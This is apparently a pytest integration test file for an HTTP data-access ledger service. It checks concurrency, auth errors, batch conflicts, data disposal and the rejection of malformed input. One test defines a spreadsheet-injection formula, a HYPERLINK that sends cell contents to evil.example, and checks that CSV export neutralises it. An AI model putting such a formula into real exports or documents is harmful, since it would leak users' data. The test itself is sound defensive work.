"""A real `sharing-ledger serve` process over HTTP, on PostgreSQL: record, read, verify."""

from __future__ import annotations

import csv
import io
import json
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from api.service.recorded_reads import DISPOSED_TEXT
from ledger.storage.config import PostgresLocation
from tests.integration.test_cli import run, store_env
from tests.support.factories import access_command, subject

pytestmark = pytest.mark.postgres

HOUR_AGO = datetime.now(UTC) - timedelta(hours=1)


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def key(env: dict[str, str], *args: str) -> str:
    created = run("principals", "create", *args, "--reason", "end-to-end tests", env=env)
    assert created.returncode == 0, created.stderr
    return created.stdout.strip().splitlines()[-1]


@pytest.fixture
def server(pg_location: PostgresLocation, tmp_path: Path) -> Iterator[tuple[str, dict[str, str]]]:
    env = store_env(pg_location)
    assert run("db", "init", env=env).returncode == 0
    keys = {
        "source": key(env, "--name", "liquidlogic", "--role", "source-system"),
        "dpo": key(env, "--name", "dpo", "--role", "dpo", "--organisation", "westshire-council"),
        "auditor": key(env, "--name", "auditor", "--role", "auditor"),
    }
    port = free_port()
    log = (tmp_path / "server.log").open("w")
    process = subprocess.Popen(
        [sys.executable, "-m", "api.cli", "serve", "--port", str(port)],
        env={**_environ(), **env, "LEDGER_LOG_FORMAT": "json", "LEDGER_LOG_LEVEL": "INFO"},
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        _wait_until_up(base, process)
        yield base, keys
    finally:
        process.terminate()
        process.wait(timeout=20)
        log.close()


def _environ() -> dict[str, str]:
    import os  # noqa: PLC0415 - only the server's environment needs it

    return {k: v for k, v in os.environ.items() if not k.startswith("LEDGER_")}


def _wait_until_up(base: str, process: subprocess.Popen[bytes]) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        assert process.poll() is None, "the server exited"
        try:
            httpx.get(f"{base}/v1/openapi.json", timeout=1)
        except httpx.TransportError:
            time.sleep(0.2)
            continue
        return
    pytest.fail("the server did not start within 30 s")


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def ledger_size(base: str, keys: dict[str, str]) -> int:
    status = httpx.get(f"{base}/v1/ledger/status", headers=bearer(keys["auditor"]))
    return int(status.json()["size"])


def test_record_concurrently_then_read_and_verify(server: tuple[str, dict[str, str]]) -> None:
    """16 clients record 20 accesses each; positions are unique; reports and verify agree."""
    base, keys = server
    body = access_command(HOUR_AGO, subject=subject(7))
    body.pop("command")
    # The keys' grants are the ledger's first entries.
    start = ledger_size(base, keys)

    def record(_n: int) -> int:
        reply = httpx.post(f"{base}/v1/accesses", json=body, headers=bearer(keys["source"]))
        assert reply.status_code == 201, reply.text
        (entry,) = reply.json()["entries"]
        return int(entry["position"])

    with ThreadPoolExecutor(16) as pool:
        positions = list(pool.map(record, range(320)))
    assert sorted(positions) == list(range(start, start + 320))

    who = httpx.get(f"{base}/v1/subjects/{subject(7)}/who-saw?limit=5", headers=bearer(keys["dpo"]))
    assert who.status_code == 200, who.text
    assert who.json()["accesses"] == 321  # every access, and this read itself
    assert len(who.json()["items"]) == 5
    assert who.json()["next"] is not None

    verified = httpx.post(f"{base}/v1/ledger/verification", headers=bearer(keys["auditor"]))
    assert verified.json()["ok"] is True
    assert verified.json()["size"] == start + 321


def test_errors_are_problem_documents(server: tuple[str, dict[str, str]]) -> None:
    """No key: 401; wrong role: 403; bad term: 422 naming the field; each problem+json."""
    base, keys = server
    body = access_command(HOUR_AGO)
    body.pop("command")
    anonymous = httpx.post(f"{base}/v1/accesses", json=body)
    wrong_role = httpx.post(f"{base}/v1/accesses", json=body, headers=bearer(keys["auditor"]))
    bad_term = httpx.post(
        f"{base}/v1/accesses", json={**body, "purpose": "dpv:Nope"}, headers=bearer(keys["source"])
    )
    assert [r.status_code for r in (anonymous, wrong_role, bad_term)] == [401, 403, 422]
    assert all(
        r.headers["content-type"].startswith("application/problem+json")
        for r in (anonymous, wrong_role, bad_term)
    )
    assert bad_term.json()["errors"][0]["field"] == "purpose"


def test_a_batch_recording_one_entry_twice_is_refused_whole(
    server: tuple[str, dict[str, str]],
) -> None:
    """Two commands with the same source_ref: 409 naming both, and nothing recorded.

    (Sent one by one, the second would be a 409 too; in a batch it used to
    overwrite the first and the reply said one entry was recorded.)
    """
    base, keys = server
    before = ledger_size(base, keys)
    first = access_command(HOUR_AGO, subject=subject(1), source_ref="LL-77")
    second = access_command(HOUR_AGO, subject=subject(2), source_ref="LL-77")
    reply = httpx.post(
        f"{base}/v1/batch", json={"commands": [first, second]}, headers=bearer(keys["source"])
    )
    assert reply.status_code == 409, reply.text
    assert reply.json()["indexes"] == [0, 1]
    assert ledger_size(base, keys) == before


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_a_formula_in_a_justification_is_neutralised_in_csv(
    server: tuple[str, dict[str, str]],
) -> None:
    """OWASP CSV injection: a cell starting with '=' is written as text ('=...), so a DPO's
    spreadsheet shows it instead of running it; the JSON keeps the text as recorded."""
    base, keys = server
    body = access_command(HOUR_AGO, subject=subject(3), justification=FORMULA)
    body.pop("command")
    assert httpx.post(f"{base}/v1/accesses", json=body, headers=bearer(keys["source"])).is_success
    reply = httpx.get(
        f"{base}/v1/subjects/{subject(3)}/who-saw?format=csv", headers=bearer(keys["dpo"])
    )
    rows = list(csv.DictReader(io.StringIO(reply.text)))
    assert "'" + FORMULA in [row["justification"] for row in rows]
    assert FORMULA not in [row["justification"] for row in rows]


def test_a_disposal_on_the_command_line_reaches_the_running_server(
    server: tuple[str, dict[str, str]], pg_location: PostgresLocation
) -> None:
    """Server and command line in separate processes: the server has the person's key in
    memory; once `retention dispose` runs, the server stops opening their text within a second."""
    base, keys = server
    env = store_env(pg_location)
    registered = run(
        "subjects",
        "register",
        "--nhs",
        "943 476 5919",
        "--rule",
        "adult-social-care",
        "--trigger-date",
        "2010-01-01",
        env=env,
    )
    assert registered.returncode == 0, registered.stderr
    person = registered.stdout.strip()
    body = access_command(HOUR_AGO, subject=person, justification="notes naming the person")
    body.pop("command")
    assert httpx.post(f"{base}/v1/accesses", json=body, headers=bearer(keys["source"])).is_success

    def justifications() -> set[str]:
        reply = httpx.get(f"{base}/v1/subjects/{person}/who-saw", headers=bearer(keys["dpo"]))
        return {
            item["justification"]
            for item in reply.json()["items"]
            if item["kind"] == "access" and item["actor"] == "fsw-0001"
        }

    assert justifications() == {"notes naming the person"}  # its key is now in the server
    disposed = run("retention", "dispose", person, "--authoriser", "dpo-0001", env=env)
    assert disposed.returncode == 0, disposed.stderr
    deadline = time.monotonic() + 1.0
    while justifications() != {DISPOSED_TEXT} and time.monotonic() < deadline:
        time.sleep(0.05)
    assert justifications() == {DISPOSED_TEXT}


def test_what_the_hostile_tester_sent_is_refused_and_reports_still_answer(
    server: tuple[str, dict[str, str]],
) -> None:
    """Year 1 at +14:00, a number for a time, NUL, a lone surrogate and an NI number as the
    actor: each a 422 naming the field (and never quoting the number).

    Protects: the read models, which the first was accepted into (201) and then
    stopped at, on both stores (issue #14); a report afterwards still answers.
    """
    base, keys = server
    body = access_command(HOUR_AGO, subject=subject(9))
    body.pop("command")
    hostile = [
        ("occurred_at", "0001-01-01T00:00:00+14:00"),
        ("occurred_at", 1),
        ("justification", "case\x00review"),
        ("justification", "case\ud800review"),
        ("actor", "HL918273C"),  # an NI number where a staff id belongs (issue #16)
    ]
    for field, value in hostile:
        # json.dumps writes the lone surrogate as its \ud800 escape, as a hostile client would.
        content = json.dumps({**body, field: value})
        reply = httpx.post(
            f"{base}/v1/accesses",
            content=content,
            headers={**bearer(keys["source"]), "Content-Type": "application/json"},
        )
        assert reply.status_code == 422, reply.text
        assert reply.json()["errors"][0]["field"] == field
        assert "HL918273C" not in reply.text
    who = httpx.get(f"{base}/v1/subjects/{subject(9)}/who-saw", headers=bearer(keys["dpo"]))
    assert who.status_code == 200, who.text
    assert who.json()["accesses"] == 1  # nothing but this read itself
